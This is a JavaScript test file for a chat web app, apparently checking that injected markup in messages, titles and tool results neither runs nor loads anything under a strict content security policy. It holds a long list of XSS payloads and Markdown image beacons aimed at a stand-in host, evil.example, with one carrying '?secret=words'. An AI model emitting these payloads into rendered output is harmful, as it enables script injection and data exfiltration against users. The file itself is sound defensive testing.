// What models and strangers may try: every trick is said by a model, asked by a person, used as a
// title, as a tool's result and as an agent's answer. Nothing of it may run, be loaded or be asked
// of another machine, under the policy that the server really sends.
import { join } from 'node:path';
import { behaved, box, equal, finish, folder, holds, idle, journey, open, Server } from './stage.mjs';

const AWAY = 'evil.example';

export const TRICKS = [
  // Scripts as such.
  '<script>hit()</script>',
  '<ScRiPt>hit()</sCrIpT>',
  '<script src="https://evil.example/x.js"></script>',
  '<script src=//evil.example/x.js>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '<script\x20type="text/javascript">hit();</script>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<svg><script>hit()</script></svg>',
  '<svg><script href="data:text/javascript,hit()"/></svg>',
  '<math><script>hit()</script></math>',
  // Handlers.
  '<img src=x onerror=hit()>',
  '<img src=x onerror="&#104;&#105;&#116;&#40;&#41;">',
  '<img/src=x/onerror=hit()>',
  '<svg onload=hit()>',
  '<svg/onload=hit()//',
  '<body onload=hit()>',
  '<input autofocus onfocus=hit()>',
  '<select autofocus onfocus=hit()><option>',
  '<textarea autofocus onfocus=hit()></textarea>',
  '<details open ontoggle=hit()><summary>x</summary></details>',
  '<video src=x onerror=hit()></video>',
  '<video><source onerror=hit()></video>',
  '<audio src=x onerror=hit()>',
  '<marquee onstart=hit()>x</marquee>',
  '<div onpointerover=hit() style="position:fixed;inset:0">x</div>',
  '<a onmouseover=hit()>x</a>',
  '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=hit()>x</b>',
  // Frames, objects, forms, bases, refreshes.
  '<iframe src="javascript:parent.hit()"></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<object data="javascript:hit()"></object>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.svg">',
  '<form action="https://evil.example/"><button>Press me</button></form>',
  '<form><button formaction="javascript:hit()">x</button></form>',
  '<isindex action="javascript:hit()" type=submit>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="prefetch" href="https://evil.example/x">',
  '<link rel="dns-prefetch" href="//evil.example">',
  // Styles.
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>*{background:url(https://evil.example/x)}</style>',
  '<b style="background:url(https://evil.example/x)">x</b>',
  '<b style="position:fixed;inset:0;z-index:9999;background:red">covers</b>',
  // Links of Markdown.
  '[x](javascript:hit())',
  '[x](JaVaScRiPt:hit())',
  '[x](java\tscript:hit())',
  '[x](&#106;avascript:hit())',
  '[x](javascript&colon;hit())',
  '[x]( javascript:hit() )',
  '[x](<javascript:hit()>)',
  '[x](data:text/html,<script>hit()</script>)',
  '[x](vbscript:hit())',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/1)',
  '[x](https://evil.example/" onmouseover="hit())',
  '[x](https://evil.example/\'onmouseover=\'hit())',
  '<javascript:hit()>',
  '[x][y]\n\n[y]: javascript:hit()',
  '[https://good.example](https://evil.example/)',
  'https://evil.example/"onclick="hit()"',
  // Pictures that carry words away.
  '![x](https://evil.example/?secret=words)',
  '![x](//evil.example/x.png)',
  '![x](http://evil.example/x.png "title")',
  '![x][y]\n\n[y]: https://evil.example/ref.png',
  '[![x](https://evil.example/in-a-link.png)](https://evil.example/)',
  '![x](javascript:hit())',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImhpdCgpIi8+)',
  '![" onerror="hit()](https://evil.example/x.png)',
  '![x](x" onerror="hit())',
  '<img src="https://evil.example/?secret=words">',
  '<img srcset="https://evil.example/a 1x, https://evil.example/b 2x">',
  '<picture><source srcset="https://evil.example/p"><img></picture>',
  '<video poster="https://evil.example/poster"></video>',
  '<svg><image href="https://evil.example/x"/></svg>',
  '<svg><use href="https://evil.example/x#y"/></svg>',
  '<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>',
  '<svg><a xlink:href="javascript:hit()"><text y="20">x</text></a></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><set attributeName="href" to="javascript:hit()"/></svg>',
  // Markup that parsers read differently.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
  '<svg></p><style><a id="</style><img src=1 onerror=hit()>">',
  '<!--><img src=x onerror=hit()>-->',
  '<![CDATA[><img src=x onerror=hit()>]]>',
  '<x/onclick=hit()>press',
  '<template><script>hit()</script></template>',
  '<xmp><p title="</xmp><img src=x onerror=hit()>">',
  '<plaintext><img src=x onerror=hit()>',
  '<a href="\u0001javascript:hit()">x</a>',
  '`<img src=x onerror=hit()>`',
  '```html\n<img src=x onerror=hit()>\n```',
  '```"><img src=x onerror=hit()>\ncode\n```',
  '```js onmouseover=hit()\nalert(1)\n```',
  '| <img src=x onerror=hit()> | b |\n|---|---|\n| [x](javascript:hit()) | ![x](https://evil.example/t) |',
  '- [x] <input type=image src="https://evil.example/i" onerror=hit()>',
  // Clobbering.
  '<a id=chats></a><img name=document><form id=app><input name=innerHTML></form>',
  '<div id="app"></div><div class="approval"><button class="primary">Allow once</button></div>',
  // Formulas.
  '$\\href{javascript:hit()}{x}$',
  '$\\url{javascript:hit()}$',
  '$$\\htmlData{onclick=hit()}{x}$$',
  '$\\includegraphics{https://evil.example/f.png}$',
  '$\\htmlStyle{background:url(https://evil.example/f)}{x}$',
  '$\\def\\a{\\a\\a}\\a$',
  '$<img src=x onerror=hit()>$',
  '\\(\\text{<img src=x onerror=hit()>}\\)',
  // What the app itself puts together.
  '<file name="x"><img src=x onerror=hit()></file>',
  '\u0002<img src=x onerror=hit()>\u0003',
  '<span class="remote" data-address="javascript:hit()">x</span>',
  '<span class="formula" data-block="1">\\href{javascript:hit()}{x}</span>',
  '<figure class="code" data-language="../../evil"><pre><code>x</code></pre></figure>',
  '{{constructor.constructor("hit()")()}}',
  '${hit()}',
];

const server = await new Server(process.env.FLINT_SCRIPTED, join(folder, 'tricks')).start();

/** Watches from before the page's first script. */
async function watched(options) {
  const page = await open(server.url, options);
  await page.addInitScript(() => {
    window.hits = 0;
    window.hit = () => window.hits++;
    window.violations = [];
    document.addEventListener('securitypolicyviolation', (event) => window.violations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
  });
  await page.reload();
  return page;
}

/** Throws if anything ran, was loaded, was asked for, or stands on the page that must not. */
async function harmless(page, what) {
  equal(await page.evaluate(() => window.hits), 0, what + ': scripts that ran');
  equal(await page.evaluate(() => window.violations), [], what + ': what the policy had to stop');
  equal(page.away, [], what + ': requests to elsewhere');
  equal(new URL(page.url()).origin, server.url, what + ': where the page is');
  const bad = await page.evaluate(() => {
    const wrong = [];
    for (const element of document.querySelectorAll('main *, nav *')) {
      for (const { name, value } of element.attributes) {
        if (name.startsWith('on') || /^\s*(javascript|data|vbscript|file|blob):/i.test(value) || name === 'style' && /url/i.test(value)) {
          wrong.push(`${element.tagName} ${name}=${value}`);
        }
      }
      if (/^(script|iframe|object|embed|base|meta|link|style|image|use|animate|set|foreignobject|video|audio|img|picture|source)$/i.test(element.localName)) {
        wrong.push(element.outerHTML.slice(0, 200));
      }
    }
    return wrong;
  });
  equal(bad, [], what + ': what stands on the page');
}

/** Everything is pointed at and focused, as a curious person would. */
async function touch(page) {
  await page.evaluate(() => {
    for (const element of document.querySelectorAll('.prose *, .said, nav a')) {
      for (const name of ['pointerover', 'mouseover', 'mouseenter', 'focusin', 'toggle']) {
        element.dispatchEvent(new Event(name, { bubbles: true }));
      }
    }
  });
}

await journey('the policy is strict', async () => {
  const policy = (await fetch(server.url)).headers.get('content-security-policy');
  const scripts = /script-src ([^;]*)/.exec(policy)[1];
  equal(scripts, "'self'", 'script-src');
  holds(!policy.includes('unsafe'), policy);
  holds(policy.includes("default-src 'none'") && policy.includes("require-trusted-types-for 'script'"), policy);
});

await journey(`${TRICKS.length} tricks, said by a person and by a model`, async () => {
  holds(TRICKS.length >= 60, 'too few');
  for (let from = 0; from < TRICKS.length; from += 20) {
    const page = await watched();
    const chat = await server.call('POST', '/conversations', { title: TRICKS[from], settings: { model: 'echo' } });
    let parent = null;
    for (const trick of TRICKS.slice(from, from + 20)) {
      const run = await server.call('POST', `/conversations/${chat.id}/messages`, { parent, text: trick });
      parent = (await ended(run.id)).answer;
    }
    // A high page, so that all turns are on it.
    await page.setViewportSize({ width: 1200, height: 9000 });
    await page.goto(server.url + '/#' + chat.id);
    await page.reload();
    await page.locator('.turn.assistant').first().waitFor();
    await page.waitForFunction((many) => document.querySelectorAll('.turn').length === many, 2 * Math.min(20, TRICKS.length - from));
    await settled(page);
    await touch(page);
    await settled(page);
    await harmless(page, `tricks from ${from}`);
    await page.context().close();
  }
});

await journey('tricks while they are being said, cut at every place', async () => {
  const page = await watched();
  const all = TRICKS.filter((trick) => !trick.includes('```')).join('\n\n');
  await page.evaluate(() => localStorage.setItem('flint.preferences', '{}'));
  const chat = await server.call('POST', '/conversations', { title: 'x', settings: { model: 'letters' } });
  await page.goto(server.url + '/#' + chat.id);
  await page.reload();
  await box(page).fill(all);
  await page.locator('button.send').click();
  await page.locator('.turn.assistant footer').waitFor({ timeout: 120_000 });
  await idle(page);
  await settled(page);
  await harmless(page, 'letter by letter');
});

await journey('tricks as results of tools, titles and finds', async () => {
  const page = await watched();
  const chat = await server.call('POST', '/conversations', { title: '<img src=x onerror=hit()>', settings: { model: 'tricked', mode: 'instant' } });
  const run = await server.call('POST', `/conversations/${chat.id}/messages`, { parent: null, text: 'go' });
  await page.goto(server.url + '/#' + chat.id);
  await page.reload();
  await ended(run.id);
  await page.getByRole('searchbox').fill('onerror');
  await page.locator('.snippet').first().waitFor();
  await touch(page);
  await settled(page);
  await harmless(page, 'tools and finds');
});

await journey('a picture from elsewhere is a link that names its place', async () => {
  const page = await watched();
  const chat = await server.call('POST', '/conversations', { title: 'x', settings: { model: 'echo' } });
  const run = await server.call('POST', `/conversations/${chat.id}/messages`, { parent: null, text: `![chart](https://${AWAY}/?secret=words)` });
  await ended(run.id);
  await page.goto(server.url + '/#' + chat.id);
  await page.reload();
  const link = page.locator('.prose a.picture');
  await link.waitFor();
  holds((await link.innerText()).includes(AWAY), 'the domain is shown');
  equal(await link.getAttribute('rel'), 'noopener noreferrer nofollow', 'rel');
  await harmless(page, 'a picture');
  behaved(page);
});

await finish();

async function ended(run) {
  const response = await fetch(`${server.url}/api/runs/${run}/events`);
  const frames = (await response.text()).trim().split('\n\n');
  return JSON.parse(frames.at(-1).split('\n').find((line) => line.startsWith('data: ')).slice(6));
}

/** Waits until what is loaded at need (colours, formulas) has been put in its place. */
async function settled(page) {
  await page.waitForLoadState('networkidle');
  await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));
}
